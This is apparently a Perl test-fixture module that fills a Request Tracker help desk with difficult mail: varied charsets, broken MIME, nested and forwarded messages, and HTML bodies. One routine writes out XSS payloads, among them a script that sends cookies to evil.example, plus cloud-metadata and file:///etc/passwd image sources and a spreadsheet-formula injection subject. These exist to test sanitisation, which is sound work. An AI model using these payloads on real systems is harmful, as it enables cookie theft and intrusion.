# What comes by mail: every charset, broken MIME, forwarded mails, bodies of one kind and of two, hostile HTML, empty and long subjects.
package fill::Mail;
use strict; use warnings; use utf8;
use Encode; use MIME::Base64; use MIME::QuotedPrint;
use RT::Interface::Email;
use fill::Bed; use fill::People;

# Hands a mail to the gateway as an MTA would; gives the ticket.
sub deliver { my ($message, %more) = @_;
  my ($status, $error, $ticket) = RT::Interface::Email::Gateway({ queue => 'General', action => 'correspond', message => $message, %more });
  must($status == 1, "the gateway said: $error") ; return $ticket }
sub header { my ($from, $subject, @more) = @_; state_id(); return join("\r\n", "From: $from", 'To: help@desk.example', "Subject: $subject", 'Message-ID: <m' . state_id() . '@mail.example>', 'MIME-Version: 1.0', @more) . "\r\n" }
my $count = 0; sub state_id { return $count++ }
sub word { my ($charset, $text) = @_; '=?' . $charset . '?B?' . encode_base64(encode($charset, $text), '') . '?=' }
sub who { $fill::People::customers[$_[0]] }

sub plan { for my $n (1 .. 4) { my $day = sprintf '2025-%02d', $n * 2;
  at("$day-22 02:00", sub { charsets($n) }); at("$day-23 02:00", sub { broken($n) }); at("$day-24 02:00", sub { shapes($n) }); at("$day-25 02:00", sub { hostile($n) }); at("$day-26 02:00", sub { subjects($n) }) } }

sub charsets { my ($n) = @_;
  my $text = "您好,第 $n 封邮件:专线从今天上午起中断,请尽快处理。";
  for my $charset ('gbk', 'gb18030', 'big5', 'utf-8') { my $body = $charset eq 'big5' ? "您好,第 $n 封郵件:專線中斷,請儘快處理。" : $text;
    my $ticket = deliver(header(who($n), word($charset, "邮件 $n $charset" =~ s/邮/郵/r), "Content-Type: text/plain; charset=$charset", 'Content-Transfer-Encoding: base64') . "\r\n" . encode_base64(encode($charset, $body)));
    trap("mail in $charset", $ticket->Id) }
  my $wide = deliver(header(who($n), "In UTF-16 $n", 'Content-Type: multipart/mixed; boundary=u') . "\r\n--u\r\nContent-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n" . encode_base64(encode('UTF-16', $text)) . "--u--\r\n"); trap('mail in utf-16', $wide->Id);
  my $latin = deliver(header(who($n), '=?iso-8859-1?Q?St=F6rung_' . $n . '?=', 'Content-Type: text/plain; charset=iso-8859-1', 'Content-Transfer-Encoding: quoted-printable') . "\r\n" . encode_qp(encode('iso-8859-1', "Größe der Störung: groß, Café Nº $n\n"))); trap('mail in latin1', $latin->Id);
  my $wrong = deliver(header(who($n), "Declared wrong $n", 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit') . "\r\n" . encode('gbk', "其实是GBK $n\r\n")); trap('mail whose charset is declared wrong', $wrong->Id);
  my $reply = deliver(header(who($n), "Re: [desk.example #" . $latin->Id . "] St", 'Cc: onlooker' . $n . '@thirdparty.example', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit') . "\r\n" . encode('UTF-8', "A reply by mail $n\r\n\r\n> Größe\r\n")); trap('reply by mail', $latin->Id);
  trap('mail with a NUL', deliver(header(who($n), "A zero byte $n", 'Content-Type: text/plain; charset=utf-8') . "\r\nbefore\0after $n\r\n")->Id);
}

sub broken { my ($n) = @_;
  trap('broken MIME', deliver(header(who($n), "No closing boundary $n", 'Content-Type: multipart/mixed; boundary="b' . $n . '"') . "\r\n--b$n\r\nContent-Type: text/plain\r\n\r\nBody before the cut $n\r\n--b$n\r\nContent-Type: application/pdf; name=cut.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\nnot*base64!")->Id);
  trap('broken MIME', deliver(header(who($n), "Empty multipart $n", 'Content-Type: multipart/mixed; boundary=x') . "\r\nnothing in it\r\n")->Id);
  trap('mail without a body', deliver(header(who($n), "No body $n", 'Content-Type: text/plain; charset=utf-8') . "\r\n")->Id);
  trap('mail that holds a mail', deliver(header(who($n), "Fwd: one in another $n", 'Content-Type: multipart/mixed; boundary=out') . "\r\n--out\r\nContent-Type: text/plain\r\n\r\nPlease see below $n\r\n--out\r\nContent-Type: message/rfc822\r\n\r\nFrom: somebody\@outside.example\r\nSubject: inner $n\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\nContent-Type: text/plain\r\n\r\nThe inner text $n\r\n--in\r\nContent-Type: application/octet-stream; name=inner.bin\r\nContent-Transfer-Encoding: base64\r\n\r\nAAECAwQF\r\n--in--\r\n\r\n--out--\r\n")->Id);
  trap('winmail.dat', deliver(header(who($n), "From Outlook $n", 'Content-Type: multipart/mixed; boundary=w') . "\r\n--w\r\nContent-Type: text/plain\r\n\r\nSee the file $n\r\n--w\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n" . encode_base64(pack('V', 0x223e9f78) . pack('v', $n) . 'not really tnef') . "--w--\r\n")->Id);
}

sub shapes { my ($n) = @_;
  my $t = fill::Ordinary::open_ticket('General', Subject => "HTML only $n", MIMEObj => mime('single', part('text/html', "<html><body><p>Only <b>HTML</b> $n: <i>专线</i></p><table><tr><td>a</td><td colspan=2>b</td></tr></table><ul><li>one<li>two</ul></body></html>"))); trap('body of HTML alone', $t->Id);
  my $u = fill::Ordinary::open_ticket('General', Subject => "Both $n", MIMEObj => mime('alternative', part('text/plain', "Both kinds, plain $n"), part('text/html', "<p>Both kinds, <em>rich</em> $n</p>"))); trap('body of text and HTML', $u->Id);
  my $id = $u->Id;
  later(20, sub { my $r = load_ticket($id, 'frank'); must($r->Correspond(MIMEObj => mime('mixed', mime('related', mime('alternative', part('text/plain', "Nested plain $n"), part('text/html', "<p>Nested rich $n <img src=\"cid:deep$n\@x\"></p>")), file_part("deep$n.png", 'image/png', png(60 + $n), id => "deep$n\@x")), file_part("log$n.txt", 'text/plain', "a log $n\n")))); trap('alternative within related within mixed', $id) });
  later(30, sub { my $r = load_ticket($id, 'frank'); must($r->Comment(MIMEObj => mime('mixed', file_part("alone$n.pdf", 'application/pdf', "%PDF-1.4 $n")))); trap('note that is a file alone', $id) });
  later(40, sub { my $r = load_ticket($id, 'frank'); must($r->Comment(MIMEObj => mime('mixed', part('text/plain', "First text $n"), part('text/plain', "Second text $n")))); trap('two text parts', $id) });
}

sub hostile { my ($n) = @_;
  my $html = "<p onclick=\"alert(1)\">Hostile $n</p><script>document.location='http://evil.example/'+document.cookie</script><img src=\"x\" onerror=\"alert(2)\"><svg onload=alert(3)></svg><iframe src=\"http://169.254.169.254/\"></iframe>"
    . "<style>body{display:none}</style><a href=\"javascript:alert(4)\">click</a><a href=\"data:text/html,<script>alert(5)</script>\">data</a><form action=\"http://evil.example\"><input name=p></form><math><mi xlink:href=\"javascript:alert(6)\">m</mi></math><b>kept $n</b>";
  trap('hostile HTML', fill::Ordinary::open_ticket('General', Subject => "<script>alert('subject $n')</script>", MIMEObj => mime('single', part('text/html', $html)))->Id);
  trap('image at an internal address', fill::Ordinary::open_ticket('General', Subject => "Internal images $n", MIMEObj => mime('single', part('text/html', "<p>In here $n <img src=\"http://169.254.169.254/latest/meta-data/\"><img src=\"http://127.0.0.1:1/x.png\"><img src=\"file:///etc/passwd\"><img src=\"http://tracker.example/pixel.gif\"></p>")))->Id);
  trap('image in a data URI', fill::Ordinary::open_ticket('General', Subject => "Data image $n", MIMEObj => mime('single', part('text/html', '<p>Here <img alt="dot" src="data:image/gif;base64,' . encode_base64(gif(90 + $n), '') . '"></p>')))->Id);
}

sub subjects { my ($n) = @_;
  trap('empty subject', fill::Ordinary::open_ticket('General', Subject => '', Content => "No subject $n")->Id);
  trap('long subject', fill::Ordinary::open_ticket('General', Subject => substr("Long $n " . ('专线故障 leased line ' x 30), 0, 199), Content => 'x')->Id);
  trap('subject with emoji', fill::Ordinary::open_ticket('General', Subject => "🔥 outage $n 👩‍💻 مرحبا", Content => "emoji 😀 and \x{202e}reversed $n")->Id);
  trap('subject over several lines', deliver(header(who($n), "folded subject\r\n over two lines $n", 'Content-Type: text/plain') . "\r\nfolded\r\n")->Id);
  trap('subject like a formula', fill::Ordinary::open_ticket('General', Subject => "=cmd|'/C calc'!A0 $n", Content => '@SUM(1)')->Id);
}
1;
